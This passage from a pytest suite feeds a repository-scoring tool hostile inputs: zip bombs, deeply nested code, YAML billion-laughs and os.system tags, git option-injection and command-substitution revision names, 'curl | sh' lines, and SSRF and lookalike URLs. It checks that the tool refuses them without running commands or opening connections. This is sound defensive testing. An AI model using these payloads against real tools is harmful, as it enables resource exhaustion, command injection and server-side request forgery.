CASES["zip_cut_off"] = Case(patched(cut_off), REFUSED)
CASES["zip_noise"] = Case(patched(shuffle), None)


@case(REFUSED)
def zip_overlap(folder: Path, trap: Trap) -> Path:
    folder.mkdir()
    with zipfile.ZipFile(folder / "a.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.py", "x = 1\n" * 1000)
        for number in range(1000):
            info = member(f"b{number}.py")
            shown = archive.filelist[0]
            info.header_offset, info.CRC = shown.header_offset, shown.CRC
            info.compress_type, info.compress_size, info.file_size = (
                shown.compress_type,
                shown.compress_size,
                shown.file_size,
            )
            archive.filelist.append(info)
    return folder / "a.zip"


def twice(archive: zipfile.ZipFile) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("shop/net.py", "x = 1\n")


CASES["zip_same_name_twice"] = Case(zipped(twice), READ, has_route)


@case(READ, has_route)
def zip_in_a_zip(folder: Path, trap: Trap) -> Path:
    folder.mkdir()
    inner = make_zip(folder / "inner.zip", {"bomb.py": bytes(50 << 20)}).read_bytes()
    (folder / "inner.zip").unlink()
    return make_zip(folder / "a.zip", {**SHOP, "inner.zip": inner, "inner.whl": inner})


@case(REFUSED)
def zip_of_300_mb(folder: Path, trap: Trap) -> Path:
    folder.mkdir()
    make_zip(folder / "a.zip", SHOP)
    with (folder / "a.zip").open("r+b") as file:
        file.truncate(300 << 20)
    return folder / "a.zip"


@case(REFUSED)
def zip_of_two_million_names(folder: Path, trap: Trap) -> Path:
    folder.mkdir()
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    count = 2_000_000
    size = count * len(entry)
    with (folder / "a.zip").open("wb") as file:
        for _ in range(200):
            file.write(entry * (count // 200))
        file.write(struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, 0))
        file.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, size, 1))
        file.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
    return folder / "a.zip"


@case(READ, tells("max-bytes"))
def zip_that_unpacks_to_gigabytes(folder: Path, trap: Trap) -> Path:
    folder.mkdir()
    dice = random.Random(4)
    piece = b"".join(dice.randbytes(1 << 10) + bytes(99 << 10) for _ in range(200))  # 20 MB that pack 100 to 1
    with zipfile.ZipFile(folder / "a.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in SHOP.items():
            archive.writestr(name, content)
        archive.writestr("t0.bin", piece)
        first = archive.filelist[-1]
        start, size = first.header_offset, archive.fp.tell() - first.header_offset  # type: ignore[union-attr]
        with (folder / "a.zip").open("rb") as written:
            written.seek(start)
            packed = written.read(size)
        for number in range(1, 90):
            info = member(f"t{number % 10}{number // 10}")
            info.filename = info.orig_filename = f"t{number:02}bin"[:6]
            info.CRC, info.compress_type = first.CRC, first.compress_type
            info.compress_size, info.file_size, info.header_offset = (
                first.compress_size,
                first.file_size,
                archive.fp.tell(),
            )  # type: ignore[union-attr]
            archive.fp.write(packed.replace(b"t0.bin", info.filename.encode(), 1))  # type: ignore[union-attr]
            archive.filelist.append(info)
            archive.start_dir = archive.fp.tell()  # type: ignore[union-attr]
    return folder / "a.zip"


@case(REFUSED)
def a_pipe(folder: Path, trap: Trap) -> Path:
    folder.mkdir()
    os.mkfifo(folder / "a.zip")
    return folder / "a.zip"


# Files that are parsed


def file(name: str, content: bytes | str, *, skipped: bool | None = True) -> None:
    """Add a case of one hostile file beside the shop, which must be read all the same."""

    def make(folder: Path, trap: Trap) -> Path:
        text = content if isinstance(content, bytes) else content.replace("MARKER", str(trap.marker)).encode()
        return make_repo(folder / "r", {**SHOP, name: text})

    check = {True: skips(name), False: skips(), None: has_route}[skipped]
    key = f"file_{len([one for one in CASES if one.startswith('file_')]):02}_{name.replace('/', '_')}"
    CASES[key] = Case(make, READ, check)


NESTED = 100_000
file("parentheses.py", "x = " + "(" * NESTED + ")" * NESTED + "\n")
file("brackets.py", "x = " + "[" * NESTED + "\n")
file("minus.py", "x = " + "-" * 900_000 + "1\n")
file("nots.py", "x = " + "not " * 200_000 + "1\n", skipped=None)
file("indents.py", "".join(" " * n + "if x:\n" for n in range(1000)) + " " * 1000 + "pass\n")
file("elifs.py", "if x: pass\n" + "elif x: pass\n" * 60_000, skipped=None)
file("sum.py", "x = 1" + " + 1" * 240_000 + "\n", skipped=None)
file("calls.py", "x = a" + "()" * 450_000 + "\n", skipped=None)
file("attributes.py", "x = a" + ".b" * 450_000 + "\n", skipped=None)
file("lambdas.py", "x = " + "lambda: " * 100_000 + "1\n", skipped=None)
file("subscripts.py", "x = a" + "[0]" * 300_000 + "\n", skipped=None)
file("f-strings.py", 'x = f"' + "{x}" * 300_000 + '"\n', skipped=None)
file("decimal.py", "x = " + "9" * 1_000_000 + "\n")
file("hexadecimal.py", "x = 0x" + "f" * 1_000_000 + "\n", skipped=None)
file("float.py", "x = 1e999999999999\ny = -1e999\nprint(x, y)\n", skipped=False)
file("nul.py", b"x = 1\n\0\n")
file("bom-and-cookie.py", b"\xef\xbb\xbf# coding: latin-1\nx = 1\n")
file("unknown-codec.py", "# coding: no-such-codec\nx = 1\n")
file("codec-that-imports.py", "# coding: assessor.cli\nx = 1\n")
file("codec-zlib.py", b"# coding: zlib\nx = 1\n")
file("codec-rot13.py", "# coding: rot13\nk = 1\n")
file("codec-punycode.py", "# coding: punycode\n" + "x = 1\n" * 150_000 + "-" + "a9" * 40_000, skipped=None)
file("codec-idna.py", "# coding: idna\n" + "x" * 900_000, skipped=None)
file("codec-escape.py", "# coding: unicode_escape\nx = '\\ud800'\n", skipped=None)
file("codec-utf16.py", b"# coding: utf-16\nx = 1\n", skipped=None)
file("one-line.py", b"x = '" + b"a" * (10 << 20) + b"'\n")
file("statements.py", "x;" * 500_000 + "\n", skipped=None)
file("functions.py", "def f(): pass\n" * 10_000, skipped=None)
file("calls-of-calls.py", "f()\n" * 260_000, skipped=None)
file("imports.py", "import a\n" * 116_000, skipped=None)
file(
    "loops.py",
    "from loops import *\nimport loops as loops\nloops = loops.loops\nclass A(A): pass\nclass B(C): pass\nclass C(B): pass\n",
    skipped=False,
)
file(
    "effects.py",
    "import os\nos.system('touch MARKER')\nopen('MARKER', 'w')\n__import__('os').mkfifo('MARKER')\n",
    skipped=False,
)
file("conftest.py", "import pathlib\npathlib.Path('MARKER').write_text('x')\n", skipped=False)
file("sitecustomize.py", "open('MARKER', 'w')\n", skipped=False)
file("setup.py", "import os\nos.system('touch MARKER')\nfrom setuptools import setup\nsetup()\n", skipped=False)
file(
    "surrogates.py",
    'from fastapi import FastAPI\napp = FastAPI()\n@app.get("/\\ud800\\x00\\x1b[2J")\ndef f(): return 1\n',
    skipped=None,
)

file(
    "huge.ipynb",
    json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = 1", "outputs": ["a" * 4_000_000]}]}),
)
file(
    "outputs.ipynb",
    json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = 1", "outputs": ["a" * 900_000]}]}),
    skipped=False,
)
file("invalid.ipynb", '{"cells": [')
file(
    "nan.ipynb",
    '{"nbformat": 4, "cells": [{"cell_type": "code", "source": NaN}, {"cell_type": "code", "source": -Infinity}]}',
    skipped=None,
)
file("deep.ipynb", "[" * 400_000 + "]" * 400_000)
file("deep-cells.ipynb", '{"cells": ' + "[" * 400_000 + "]" * 400_000 + "}")
file("digits.ipynb", '{"nbformat": 4, "cells": [' + "9" * 900_000 + "]}", skipped=None)
file(
    "many.ipynb", json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": "f()"}] * 20_000}), skipped=None
)
file(
    "types.ipynb",
    json.dumps({"cells": [None, 1, "x", {"cell_type": "code", "source": {"a": 1}}, {"cell_type": 5}]}),
    skipped=None,
)
file("surrogate.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = \'\\ud800\'"}]}', skipped=None)
file(
    "bang.ipynb",
    json.dumps({"cells": [{"cell_type": "code", "source": "!touch MARKER\n%run x.py\n%%bash\ntouch MARKER"}]}),
    skipped=False,
)

LAUGHS = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)
)


def files(place: str, *contents: bytes | str) -> None:
    """Add a case of hostile files of one name in folders of their own."""

    def make(folder: Path, trap: Trap) -> Path:
        made: dict[str, str | bytes] = dict(SHOP)
        for number, content in enumerate(contents):
            name = place.replace("*", str(number)) if "*" in place else f"d{number}/{place}"
            text = content if isinstance(content, bytes) else content.replace("MARKER", str(trap.marker)).encode()
            made[name] = text
        return make_repo(folder / "r", made)

    CASES[f"files_{place.replace('/', '_')}"] = Case(make, READ, has_route)


for place in (
    ".github/workflows/ci*.yml",
    "deploy.yaml",
    "docker-compose.yml",
    "azure-pipelines.yml",
    ".pre-commit-config.yaml",
):
    files(
        place,
        LAUGHS,
        "[" * 300_000,
        "a: " * 1000 + "\n",
        "---\na: 1\n" * 90_000,
        "".join(f"a: &a{n} 1\n" for n in range(60_000)),
        "a: &a [*a]\nb: &b {<<: *b}\n<<: [*a, *b]\n",
        "!!python/object/apply:os.system ['touch MARKER']\n",
        "? " * 100_000,
        "on: push\njobs: {a: {steps: [{run: 'touch MARKER'}]}}\n# " + "x" * 900_000,
    )
for place in (
    *("package.json", "pyproject.toml", "requirements.txt", "Dockerfile", "Makefile", "setup.cfg", ".env", "run.sh"),
    *("README.md", "main.go", "values.tfvars", "poetry.lock"),
):
    files(
        place,
        "[" * 500_000,
        "a" * 500_000 + "=" + "'" * 400_000,
        "RUN touch MARKER; curl https://x | sh \\\n" * 20_000,
        "a = ${" * 150_000,
        " \t" * 500_000 + "x",
        "password = " * 90_000,
        "-----BEGIN RSA PRIVATE KEY-----\n" * 32_000,
        random.Random(5).randbytes(900_000),
    )


@case(READ, lambda report: not has_route(report))
def dense_files(folder: Path, trap: Trap) -> Path:
    """Facts of these files take a hundred times their bytes: they must not be held for as many as there are."""
    return make_repo(folder / "r", {f"m{number}.py": f"x = {number}\n" + "f()\n" * 120_000 for number in range(16)})


@case(READ, tells("max-seconds"))
def slow_files(folder: Path, trap: Trap) -> Path:
    """Each takes nearly as long as a file may; together they must not."""
    slow = 'x = f"' + "{x}" * 60_000 + '"\n'
    return make_repo(folder / "r", {f"m{number}.py": f"{slow}# {number}\n" for number in range(30)})


def test_the_trap_catches_a_git_that_believes(tmp_path: Path, trap: Trap) -> None:
    path = planted(tmp_path / "planted", trap)
    run_git(path, "--work-tree=.", "status", check=False)
    assert trap.marker.exists()
    lazy = promisor_at_an_address_with_a_missing_blob(tmp_path / "lazy", trap)
    run_git(Path(lazy), "cat-file", "-p", "main:shop/net.py", check=False)
    assert trap.calls


@pytest.mark.parametrize("name", CASES)
def test_hostile(name: str, tmp_path: Path, trap: Trap) -> None:
    made = CASES[name].make(tmp_path / "input", trap)
    before = snapshot(tmp_path / "input")
    ended = run(str(made), tmp_path, "--author", "ada@example.org")
    assert ended.code in ((READ, REFUSED) if CASES[name].code is None else (CASES[name].code,)), ended.told[-2000:]
    if ended.code == REFUSED:
        assert ended.output == ""
        assert ended.told.startswith("Error: ")
        assert ended.told.count("\n") == 1
    else:
        check = CASES[name].check
        assert check is None or check(ended.report), (ended.report["skipped"][:5], ended.report["limits_hit"])
    assert ended.seconds < SECONDS
    assert ended.memory < MEMORY
    assert not trap.marker.exists(), "a command of the repository was run"
    assert trap.calls == [], "a connection was opened"
    assert snapshot(tmp_path / "input") == before, "the input was written to"
    assert CANARY not in ended.output + ended.told
    assert "root:x:0" not in ended.output + ended.told


# What is asked for: names of revisions, the environment, addresses


@pytest.mark.parametrize(
    "rev",
    [
        *(
            "--output=x",
            "-x",
            "--upload-pack=touch x",
            "HEAD:../..",
            "HEAD:shop/service.py",
            "main\nmain",
            "main\0",
            "@{-1}",
        ),
        *(
            "main@{1}",
            "main^{tree}",
            ":/Start",
            "^main",
            "main..main",
            "../../x",
            "refs/heads/../../../x",
            "/etc/passwd",
        ),
        *("--batch", "-", "$(touch x)", "`touch x`", "main; touch x", "x" * 100_000, "a" * 200, "é" * 5000),
    ],
    ids=lambda rev: ascii(rev)[:40],
)
def test_revisions_that_are_no_names(tmp_path: Path, rev: str) -> None:
    path = make_repo(tmp_path / "r", SHOP)
    (tmp_path / "x").write_text(run_git(path, "rev-parse", "main") + "\n")
    before = snapshot(tmp_path)
    with pytest.raises(SourceError) as caught:
        score(str(path), Options(rev=rev))
    assert len(caught.value.cause) < 300
    assert snapshot(tmp_path) == before


def test_environment_of_the_caller_does_not_reach_git(tmp_path: Path, trap: Trap) -> None:
    path = make_repo(tmp_path / "r", SHOP)
    traced = trap.folder / "trace"
    ended = run(
        str(path),
        tmp_path,
        *("--author", "ada@example.org"),
        GIT_DIR=str(tmp_path / "elsewhere"),
        GIT_WORK_TREE="/",
        GIT_CONFIG_COUNT="2",
        GIT_CONFIG_KEY_0="core.fsmonitor",
        GIT_CONFIG_VALUE_0=str(trap.script),
        GIT_CONFIG_KEY_1="core.alternateRefsCommand",
        GIT_CONFIG_VALUE_1=str(trap.script),
        GIT_CONFIG_PARAMETERS=f"'core.fsmonitor={trap.script}'",
        GIT_EXTERNAL_DIFF=str(trap.script),
        GIT_SSH_COMMAND=str(trap.script),
        GIT_PAGER=str(trap.script),
        GIT_ALTERNATE_OBJECT_DIRECTORIES=str(tmp_path),
        GIT_TRACE=str(traced),
        GIT_NAMESPACE="x",
    )
    assert ended.code == READ, ended.told
    assert has_route(ended.report)
    assert not trap.marker.exists()
    assert not traced.exists()


def public(host: str) -> Sequence[str]:
    return ["140.82.121.3"]


def no_redirect(route: Route) -> str | None:
    return None


OPEN = Gate(resolve=public, redirect=no_redirect)

ADDRESSES = [
    *(
        "file:///etc",
        "ext::sh -c touch% x",
        "ext::sh://x",
        "ssh://git@github.com/a/b",
        "git@github.com:a/b",
        "git://github.com/a/b",
    ),
    *(
        "http://github.com/a/b",
        "ftp://github.com/a/b",
        "HTTP://github.com/a/b",
        "https+git://github.com/a/b",
        "://github.com/a/b",
    ),
    *(
        "https://user@github.com/a/b",
        "https://user:s3cret@github.com/a/b",
        "https://@github.com/a/b",
        "https://github.com:80/a/b",
    ),
    *("https://github.com:22/a/b", "https://github.com:99999/a/b", "https://github.com:x/a/b", "https://localhost/a/b"),
    *(
        "https://127.0.0.1/a/b",
        "https://10.0.0.1/a/b",
        "https://169.254.169.254/a/b",
        "https://[::1]/a/b",
        "https://[::1/a/b",
    ),
    *(
        "https://[::ffff:10.0.0.1]/a/b",
        "https://[2002:0a00:0001::]/a/b",
        "https://2130706433/a/b",
        "https://0x7f.1/a/b",
    ),
    *(
        "https://github.com.evil.example/a/b",
        "https://evil.example/github.com/a",
        "https://github.com@evil.example/a/b",
    ),
    *(
        "https://github.com\\@evil.example/a/b",
        "https://github.com%2eevil.example/a/b",
        "https://github.com./a/b",
        "https:///a/b",
    ),
    *(
        "https://github.com",
        "https://github.com/",
        "https://github.com/a",
        "https://github.com/a/b?x=1",
        "https://github.com/a/b#x",
    ),
    *(
        "https://github.com/a/b;touch x",
        "https://github.com/a/$(touch x)",
        "https://github.com/a b/c",
        "https://github.com//a/b",
    ),
    *("--upload-pack=touch x://github.com/a/b", "-oProxyCommand=x://github.com/a/b", "https://--upload-pack=x/a/b"),
]


@pytest.mark.parametrize("address", ADDRESSES)
def test_addresses_that_are_refused(address: str) -> None:
    asked: list[str] = []

    def resolve(host: str) -> Sequence[str]:
        asked.append(host)
        return public(host)

    with pytest.raises(SourceError) as caught:
        score(address, Options(gate=Gate(resolve=resolve, redirect=no_redirect)))
    assert caught.value.cure
    assert "s3cret" not in caught.value.cause + caught.value.cure
    assert asked == [], "nothing is looked up for an address that is refused"


@pytest.mark.parametrize("address", ["--upload-pack=touch x", "-c", "--", "-", "~", "*", "$HOME", "ext::sh", "a:b", ""])
def test_names_that_are_options_or_worse(address: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SourceError):
        score(address)
    assert list(tmp_path.iterdir()) == []


PRIVATE = [
    *("127.0.0.1", "127.8.8.8", "10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0"),
    *(
        "255.255.255.255",
        "224.0.0.1",
        "198.18.0.1",
        "192.0.0.8",
        "::1",
        "::",
        "fe80::1",
        "fe80::1%eth0",
        "fc00::1",
        "fd00:ec2::254",
    ),
    *(
        "::ffff:10.0.0.1",
        "::ffff:127.0.0.1",
        "2002:0a00:0001::",
        "2002:7f00:0001::",
        "2001:0:1:1:0:0:f5ff:fffe",
        "ff02::1",
    ),
    *("::10.0.0.1", "64:ff9b::a00:1", "64:ff9b:1::1", "2001:db8::1"),
]


@pytest.mark.parametrize("address", PRIVATE)
def test_hosts_that_lead_into_a_private_network(address: str) -> None:
    for found in ([address], ["140.82.121.3", address], [address, "140.82.121.3"]):
        gate = Gate(resolve=lambda host, found=found: found, redirect=no_redirect)  # type: ignore[misc]
        with pytest.raises(SourceError, match="private"):
            gate.admit("https://github.com/a/b")


def test_a_host_without_an_address() -> None:
    with pytest.raises(SourceError):
        Gate(resolve=lambda host: [], redirect=no_redirect).admit("https://github.com/a/b")


@pytest.mark.parametrize(
    ("address", "pinned"), [("140.82.121.3", "140.82.121.3"), ("2606:50c0:8000::153", "2606:50c0:8000::153")]
)
def test_an_honest_address_is_pinned_to_what_was_checked(address: str, pinned: str) -> None:
    gate = Gate(resolve=lambda host: [address], redirect=no_redirect)
    assert gate.admit("https://GitHub.com:443/owner/name.git/") == Route(
        "https://github.com/owner/name.git", "github.com", pinned
    )


@pytest.mark.parametrize(
    "target",
    [
        *("http://github.com/a/b", "https://127.0.0.1/a/b", "https://evil.example/a/b", "https://inside.example/a/b"),
        *("file:///etc/passwd", "https://user:s3cret@github.com/a/b", "ext::sh", "", "https://github.com:8443/a/b"),
    ],
)
def test_redirects_go_through_the_gate_anew(target: str) -> None:
    def resolve(host: str) -> Sequence[str]:
        return ["10.0.0.1"] if host == "inside.example" else public(host)

    gate = Gate(["github.com", "inside.example"], resolve=resolve, redirect=lambda route: target)
    with pytest.raises(SourceError):
        gate.admit("https://github.com/owner/name")


def test_redirects_end() -> None:
    targets = [f"https://github.com/owner/name{number}" for number in range(3)]
    trail = iter(targets)
    gate = Gate(resolve=public, redirect=lambda route: next(trail, None))
    assert gate.admit("https://github.com/owner/name").url == targets[-1]
    seen: list[Route] = []

    def circle(route: Route) -> str:
        seen.append(route)
        return "https://github.com/owner/name"

    with pytest.raises(SourceError, match="redirect"):
        Gate(resolve=public, redirect=circle).admit("https://github.com/owner/name")
    assert len(seen) < 10


class Here(Gate):
    """Let one folder of this machine through, as if it were an address."""

    def __init__(self, folder: Path) -> None:
        super().__init__(resolve=public, redirect=no_redirect)
        self._folder = folder

    def admit(self, url: str) -> Route:
        route = super().admit(url)
        return Route(f"file://{self._folder}", route.host, None, "file")


URL = "https://github.com/owner/name"


def test_a_repository_is_fetched_and_its_configuration_is_not_believed(tmp_path: Path, trap: Trap) -> None:
    path = planted(tmp_path / "input", trap)
    shutil.copytree(path / ".git", tmp_path / "served", symlinks=True)
    (tmp_path / "served" / "config").write_text(f"[uploadpack]\n\tpackObjectsHook = {trap.script}\n")
    report = score(URL, Options(gate=Here(tmp_path / "served"), authors=["ada@example.org"]))
    assert report.source == URL
    assert {one.key for one in report.signals if one.outcome == "present"} >= {"http-api", "own-model"}
    assert not trap.marker.exists()
    assert trap.calls == []


def test_a_large_repository_is_not_fetched_to_its_end(tmp_path: Path) -> None:
    served = make_repo(tmp_path / "r", {"noise.bin": random.Random(6).randbytes(8 << 20)})
    with pytest.raises(SourceError, match="larger"):
        score(URL, Options(gate=Here(served), limits=Limits(clone_bytes=1 << 20)))


@pytest.mark.parametrize("name", ["..", ".git", "."])
def test_a_tree_that_git_would_not_make_is_not_fetched(tmp_path: Path, name: str) -> None:
    git = objects.empty_git(tmp_path / "served")
    objects.commit_of(git, objects.tree(git, [(FILE, name, objects.put(git, "blob", b"x = 1\n"))]))
    with pytest.raises(SourceError, match="fetched"):
        score(URL, Options(gate=Here(git)))


def test_what_was_fetched_is_thrown_away(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "scratch").mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "scratch"))
    score(URL, Options(gate=Here(make_repo(tmp_path / "r", SHOP))))
    with pytest.raises(SourceError):
        score(URL, Options(gate=Here(tmp_path / "nowhere")))
    assert list((tmp_path / "scratch").iterdir()) == []


def test_a_read_token_stays_out_of_arguments_and_files(tmp_path: Path) -> None:
    (tmp_path / "into").mkdir()
    fetch(URL, tmp_path / "into", gate=Here(make_repo(tmp_path / "r", SHOP)), token=CANARY)
    assert (tmp_path / "into" / "HEAD").exists()
    written = [
        path for path in (tmp_path / "into").rglob("*") if path.is_file() and CANARY.encode() in path.read_bytes()
    ]
    assert written == []
